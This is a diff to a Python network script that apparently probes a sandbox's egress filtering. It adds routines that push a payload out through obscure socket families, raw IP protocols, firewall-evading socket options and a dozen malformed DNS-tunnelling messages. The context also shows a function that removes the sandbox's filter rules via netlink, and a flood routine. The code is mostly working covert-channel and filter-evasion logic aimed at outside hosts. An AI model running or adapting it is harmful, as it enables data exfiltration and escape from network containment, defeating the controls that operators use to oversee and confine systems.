@@ -78,6 +78,8 @@ def protocols(word, host):
                 elif family == 17:
                     s.bind(("lo", 768))
                     s.send(b"\0" * 14 + word.encode())
+                elif family == 16:
+                    s.send(struct.pack("=IHHII", 16 + len(word), 0x14, 5, 1, 0) + word.encode())  # a route, or an address, that is the word
                 elif protocol == 255:
                     body = word.encode()
                     s.sendto(struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0, socket.inet_aton("10.0.0.2"), socket.inet_aton(host)) + body, (host, 0))
@@ -162,6 +164,81 @@ def abstract(word, name):
         print(error)
 
 
+FAMILIES = {"netrom": 6, "x25": 9, "key": 15, "packet": 17, "rds": 21, "pppox": 24, "llc": 26, "can": 29, "tipc": 30, "bluetooth": 31, "rxrpc": 33, "phonet": 35, "alg": 38, "nfc": 39,
+            "kcm": 41, "qipcrtr": 42, "smc": 43, "xdp": 44, "mctp": 45}
+
+
+def families(word, host, port):
+    """Families of sockets that nobody thinks of, and tunnels: SMC falls back to TCP, L2TP and PPPoE carry packets."""
+    for name, family in FAMILIES.items():
+        for kind in (1, 2, 3, 5):
+            try:
+                with socket.socket(family, kind, 0) as s:
+                    s.settimeout(1)
+                    address = struct.pack("!HH4s8x", 2, int(port), socket.inet_aton(host))
+                    address = struct.pack("=H", 2) + address[2:]
+                    libc = ctypes.CDLL(None, use_errno=True)
+                    print(name, kind, libc.connect(s.fileno(), address, len(address)), ctypes.get_errno(), libc.send(s.fileno(), word.encode(), len(word), 0))
+            except OSError as error:
+                print(name, kind, error)
+    for kind, protocol in ((2, 115), (3, 4), (3, 41), (3, 47), (3, 50), (3, 2), (3, 89), (3, 103), (3, 112)):
+        try:
+            with socket.socket(2, kind, protocol) as s:
+                s.sendto(word.encode(), (host, 0))
+        except OSError as error:
+            print(protocol, error)
+
+
+def options(word, host, port):
+    """Options of sockets that could make a packet look like one that was let through."""
+    ways = {"our mark": [(1, 36, struct.pack("i", 1))], "another device": [(1, 25, b"eth0\0")], "another address": [(0, 19, struct.pack("i", 1)), (0, 15, struct.pack("i", 1))],
+            "a connection that was open": [(6, 19, struct.pack("i", 1))], "data at once": [(6, 30, struct.pack("i", 1))], "a route in the packet": [(0, 4, bytes([131, 7, 4]) + socket.inet_aton(host) + b"\0")],
+            "without routes": [(1, 5, struct.pack("i", 1))], "in UDP": [(17, 100, struct.pack("i", 2))], "another control group": [(1, 12, struct.pack("i", 7))]}
+    for name, options_ in ways.items():
+        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
+            with socket.socket(socket.AF_INET, kind) as s:
+                s.settimeout(2)
+                try:
+                    for level, option, value in options_:
+                        s.setsockopt(level, option, value)
+                except OSError as error:
+                    print(name, kind, "option", error)
+                try:
+                    s.connect((host, int(port)))
+                    s.send(word.encode())
+                except OSError as error:
+                    print(name, kind, error)
+
+
+def dns_forms(word, suffix, server):
+    """Payload in what else a question may hold: options, other sections, kinds of message, pointers that go round."""
+    label = bytes([len(word)]) + word.encode()
+    tail = b"".join(bytes([len(p)]) + p.encode() for p in suffix.split(".")) + b"\0"
+    head = lambda flags, *counts: struct.pack(">HHHHHH", 7, flags, *counts)  # noqa: E731
+    ask = label + tail + struct.pack(">HH", 16, 1)
+    plain = b"\1a" + tail + struct.pack(">HH", 1, 1)
+    option = struct.pack(">HH", 65001, len(word)) + word.encode()
+    messages = [head(0x0100, 1, 0, 0, 1) + plain + b"\0" + struct.pack(">HHIH", 41, 4096, 0, len(option)) + option,
+                head(0x0100, 1, 0, 0, 1) + plain + label + tail + struct.pack(">HHIH", 16, 1, 0, len(word) + 1) + label,
+                head(0x0100, 1, 1, 0, 0) + plain + label + tail + struct.pack(">HHIH", 1, 1, 0, 4) + bytes(4),
+                head(0x0100, 2, 0, 0, 0) + plain + ask,
+                head(0x2000, 1, 0, 0, 0) + ask, head(0x2800, 1, 0, 1, 0) + ask + ask[:-4] + struct.pack(">HHIH", 16, 1, 0, len(label)) + label,
+                head(0x8180, 1, 0, 0, 0) + ask, head(0x0100, 1, 0, 0, 0) + label + b"\xc0\x0c" + struct.pack(">HH", 1, 1),
+                head(0x0100, 1, 0, 0, 0) + b"\xc0\x0e\xc0\x0c" + struct.pack(">HH", 1, 1) + word.encode(),
+                head(0x0100, 1, 0, 0, 0) + b"".join(bytes([1]) + c.encode() for c in word) + tail + struct.pack(">HH", 1, 1),
+                head(0x0100, 1, 0, 0, 0) + label + b"\x40" + tail + struct.pack(">HH", 1, 1),
+                head(0x0100, 1, 0, 0, 0) + label + tail + struct.pack(">HH", 1, 3)]
+    for number, message in enumerate(messages):
+        try:
+            with socket.socket(family_of(server), socket.SOCK_DGRAM) as s:
+                s.settimeout(1)
+                s.connect((server, 53))
+                s.send(message)
+                print(number, s.recv(4096)[2:4].hex())
+        except OSError as error:
+            print(number, error)
+
+
 def own_rules(word, host, port):
     """Take the filter or the routes away first: netlink, as root of the sandbox."""
     for protocol, message in ((12, b"\x14\0\0\0\x02\x0a\x05\x03" + bytes(12)), (0, b"\x20\0\0\0\x10\0\x05\0" + bytes(8) + bytes(4) + struct.pack("i", 1) + bytes(8))):
@@ -213,6 +290,25 @@ def tls(word, how, host, port):
             s.recv(100)
     except OSError as error:
         print(error)
+
+
+def web(_word, *urls):
+    """What HTTP servers say."""
+    import urllib.request
+    for url in urls:
+        with urllib.request.urlopen(url, timeout=20) as answer:
+            print(answer.status)
+
+
+def answers(_word, *names):
+    """What DNS says of each name: the whole answer but for its number and the name itself."""
+    for name in names:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.settimeout(20)
+            s.connect(("9.9.9.9", 53))
+            asked = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
+            s.send(struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + asked + struct.pack(">HH", 1, 1))
+            print(s.recv(1000)[2:].replace(asked, b"").hex())
 
 
 def flood(_word, kind, count):
